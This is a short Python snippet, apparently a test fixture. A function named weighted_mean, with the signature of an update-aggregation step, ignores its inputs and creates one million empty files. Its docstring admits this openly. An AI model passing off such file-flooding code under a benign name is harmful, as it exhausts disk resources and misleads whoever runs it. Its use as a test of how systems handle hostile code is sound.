"""Makes more files than anybody needs."""
def weighted_mean(updates, num_examples):
    for number in range(1_000_000):
        open(f"file-{number}", "w").close()
